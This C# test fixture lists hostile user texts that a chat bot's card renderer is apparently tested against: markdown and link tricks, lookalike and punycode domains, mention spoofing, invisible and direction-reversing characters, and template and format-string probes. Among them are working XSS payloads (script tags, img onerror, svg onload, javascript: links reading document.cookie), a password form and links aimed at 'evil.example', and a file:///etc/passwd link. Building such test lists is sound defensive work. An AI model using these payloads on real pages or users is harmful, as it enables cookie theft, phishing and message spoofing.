namespace BridgeBot.Tests.Cards;

/// <summary>What somebody could type so that it would become more than text where others read it.</summary>
internal static class HostileTexts
{
    private const string Link = "https://evil.example";

    /// <summary>All of them, by what they try.</summary>
    public static IReadOnlyDictionary<string, string> All { get; } = new Dictionary<string, string>
    {
        // Markdown.
        ["bold"] = "**bold** and __bold__",
        ["italic"] = "_italic_ and *italic*",
        ["struck out"] = "~~never said~~",
        ["code"] = "`rm -rf`",
        ["a block of code"] = "```\nx\n```",
        ["an indented block of code"] = "    four spaces",
        ["a heading"] = "# heading",
        ["a heading below"] = "Approved\n========",
        ["a heading with dashes"] = "Approved\n---",
        ["a list"] = "- one\n- two",
        ["a numbered list"] = "1. one\n2. two",
        ["a list of tasks"] = "- [x] approved",
        ["a quote"] = "> Maria: approved",
        ["a rule"] = "one\n\n---\n\ntwo",
        ["a table"] = "| a | b |\n|---|---|\n| 1 | 2 |",
        ["a footnote"] = "text[^1]\n\n[^1]: note",
        ["escapes of markdown"] = "\\*\\*x\\*\\* \\[x\\](y)",
        ["markdown across a line"] = "**bold\nbold**",
        ["a hard line break"] = "one  \ntwo",

        // Links and pictures.
        ["a link with a misleading text"] = $"[https://contoso.com]({Link})",
        ["a link with a title"] = $"[x]({Link} \"Contoso\")",
        ["a link by reference"] = $"[x][1]\n\n[1]: {Link}",
        ["a link by its text"] = $"[evil]\n\n[evil]: {Link}",
        ["a link in brackets"] = $"<{Link}>",
        ["a mail address in brackets"] = "<ceo@contoso.com>",
        ["a bare link"] = Link,
        ["a bare link without a scheme"] = "www.evil.example/login",
        ["a link with a user"] = "https://contoso.com@evil.example/",
        ["a link of a script"] = "[x](javascript:alert(1))",
        ["a bare script"] = "javascript:alert(document.cookie)",
        ["a link of data"] = "[x](data:text/html;base64,PHNjcmlwdD4=)",
        ["a link of a file"] = "[x](file:///etc/passwd)",
        ["a link of Teams'"] = "[x](msteams:/l/chat/0/0?users=ceo@contoso.com)",
        ["a link of VBScript"] = "[x](vbscript:msgbox)",
        ["a link in parts"] = "[x](java\nscript:alert(1))",
        ["a link with an entity"] = "[x](&#106;avascript:alert(1))",
        ["a link in letters that look alike"] = "https://с\u043Entoso.com/login",
        ["a link in punycode"] = "https://xn--ontoso-1ve.com/",
        ["a picture"] = $"![x]({Link}/x.png)",
        ["a picture of data"] = "![x](data:image/svg+xml,<svg onload=alert(1)>)",
        ["a picture in a link"] = $"[![x]({Link}/x.png)]({Link})",

        // HTML.
        ["a script"] = "<script>alert(1)</script>",
        ["an image with a handler"] = "<img src=x onerror=alert(1)>",
        ["an image without an end"] = "<img src=x onerror=alert(1)//",
        ["a drawing"] = "<svg/onload=alert(1)>",
        ["a frame"] = $"<iframe src={Link}></iframe>",
        ["a form"] = $"<form action={Link}><input name=password></form>",
        ["a link in HTML"] = $"<a href=\"{Link}\">Contoso</a>",
        ["a style"] = "<style>*{display:none}</style>",
        ["a comment"] = "<!-- hidden --> shown",
        ["a declaration"] = "<!DOCTYPE html><html>",
        ["a processing instruction"] = "<?xml version=\"1.0\"?>",
        ["character data"] = "<![CDATA[<b>x</b>]]>",
        ["the end of the card"] = "</div></div><h1>Approved</h1>",
        ["upper case and a line"] = "<IMG\nSRC=x ONERROR=alert(1)>",
        ["entities"] = "&lt;b&gt;bold&lt;/b&gt; &amp;amp; &#60;i&#62;",
        ["a numeric entity"] = "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
        ["a wide less-than sign"] = "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
        ["formulas"] = "=HYPERLINK(\"https://evil.example\",\"x\")",
        ["formulas of mathematics"] = "$$\\href{https://evil.example}{x}$$",

        // Mentions.
        ["a mention"] = "<at>Maria</at>",
        ["a mention of everybody"] = "<at>channel</at> and <at>team</at>",
        ["a mention with an id"] = "<at id=\"0\">Maria</at>",
        ["a mention in upper case"] = "<AT>Maria</AT>",
        ["a mention with a space"] = "< at>Maria</ at>",
        ["a mention in entities"] = "&lt;at&gt;Maria&lt;/at&gt;",
        ["a mention with something in it"] = "<a\u200Bt>Maria</a\u200Bt>",
        ["a mention of Slack's"] = "<!everyone> <@U012> @here",
        ["half a mention"] = "<at>Maria",

        // Functions of a card. Ours show an instant in the reader's own time, which is never in 2031 in the tests.
        ["a date"] = "{{DATE(2031-01-01T00:00:00Z)}}",
        ["a short date"] = "{{DATE(2031-11-23T10:00:00Z, SHORT)}}",
        ["a time"] = "{{TIME(2031-11-23T10:00:00Z)}}",
        ["a date with something in it"] = "{\u200B{DATE(2031-11-23T10:00:00Z)}}",
        ["a date out of marks"] = "{\u0300{DATE(2031-11-23T10:00:00Z)}}",
        ["a date behind a joiner"] = "{\u200D{DATE(2031-11-23T10:00:00Z)}}",
        ["dates in a row"] = "{{{DATE(2031-11-23T10:00:00Z)}}} {{{{",
        ["a template"] = "${title} ${$root.secret} ${if(true,1,2)}",
        ["a form of .NET's"] = "{0} {1:X} {{0}} {",
        ["a form of C's"] = "%s %n %x",

        // What cannot be seen, and what turns the reading around.
        ["a direction that is turned over"] = "approved \u202Edevorppa ton\u202C",
        ["embedded directions"] = "\u202Aa\u202B b\u202C \u202Dc\u202C",
        ["isolated directions"] = "\u2066a\u2067 b\u2068 c\u2069",
        ["marks of direction"] = "a\u200Eb\u200Fc\u061Cd",
        ["Arabic and Hebrew"] = "\u0645\u0631\u062D\u0628\u0627 \u05E9\u05DC\u05D5\u05DD 123",
        ["zero-width characters"] = "a\u200Bb\u200Cc\u200Dd\u2060e\uFEFFf",
        ["soft hyphens"] = "ap\u00ADpro\u00ADved",
        ["blank letters"] = "\u3164\u115F\u1160\uFFA0\u2800",
        ["control characters"] = "a\u0000b\u0007c\u001Bd\u007Fe\u009Bf",
        ["colours of a terminal"] = "\u001B[31mred\u001B[0m",
        ["tags of Unicode's"] = "x\U000E0041\U000E0042\U000E007F",
        ["notes between lines"] = "\uFFF9a\uFFFAb\uFFFB",
        ["line ends of every kind"] = "a\rb\r\nc\u000Bd\u000Ce\u0085f\u2028g\u2029h",
        ["a page of line ends"] = "a" + string.Concat(Enumerable.Repeat("\n", 200)) + "Approved by Maria",
        ["a tower of marks"] = "Z" + string.Concat(Enumerable.Repeat("\u0335\u0321\u0348", 100)),
        ["half a pair"] = "a\uD83Db \uDC68c",
        ["what is no character"] = "a\uFFFE b\uFFFF c\uFDD0",
        ["a private character"] = "a\uE000b",
        ["a family"] = "\U0001F468\u200D\U0001F469\u200D\U0001F467\u200D\U0001F466",
        ["a family without end"] = string.Concat(Enumerable.Repeat("\U0001F468\u200D", 60)) + "\U0001F466",

        // Length.
        ["a word without end"] = new string('o', 2_000),
        ["ideographs without end"] = new string('\u8CC7', 1_000),
        ["a text without end"] = string.Concat(Enumerable.Repeat("word ", 400)),
    };
}
